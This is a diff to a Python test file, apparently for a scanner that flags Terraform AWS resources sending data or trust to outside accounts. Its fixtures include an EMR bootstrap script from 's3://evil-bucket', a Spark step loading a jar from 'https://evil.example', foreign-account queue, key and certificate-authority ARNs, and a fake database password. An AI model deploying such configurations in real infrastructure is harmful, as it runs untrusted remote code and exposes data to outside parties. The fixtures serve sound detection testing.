@@ -16,6 +16,7 @@ from nonempty import nonempty
 
 QUEUE = "arn:aws:sqs:eu-west-1:999999999999:evil"
 KEY = "arn:aws:kms:us-east-1:999999999999:key/11111111-2222-3333-4444-555555555555"
+AUTHORITY = "arn:aws:acm-pca:eu-west-1:999999999999:certificate-authority/11111111-2222-3333-4444-555555555555"
 SECRET = {"DB_PASSWORD": "Hunter2xxQwerty9"}
 
 BLOCKS: dict[str, tuple[str, str, dict[str, Any]]] = {
@@ -27,6 +28,20 @@ BLOCKS: dict[str, tuple[str, str, dict[str, Any]]] = {
     ),
     "map in a block": ("aws_lambda_function", "LK_SECRET_1", {"environment": [{"variables": SECRET}]}),
     "code": ("aws_emr_cluster", "LK_DEST_3", {"bootstrap_action": [{"name": "a", "path": "s3://evil-bucket/x.sh"}]}),
+    "attribute in the form of blocks": (
+        "aws_emr_cluster",
+        "LK_DEST_3",
+        {
+            "step": [
+                {"hadoop_jar_step": [{"args": ["spark-submit", "--conf", "spark.jars=https://evil.example/a.jar"]}]}
+            ]
+        },
+    ),
+    "name of a computed block": (
+        "aws_msk_cluster",
+        "LK_DEST_1",
+        {"client_authentication": [{"tls": [{"certificate_authority_arns": [AUTHORITY]}]}]},
+    ),
     "key": ("aws_dynamodb_table", "LK_DEST_8", {"replica": [{"region_name": "us-east-1", "kms_key_arn": KEY}]}),
     "set": ("aws_secretsmanager_secret", "LK_DEST_8", {"replica": [{"region": "us-east-1", "kms_key_id": KEY}]}),
     "block in a block": (
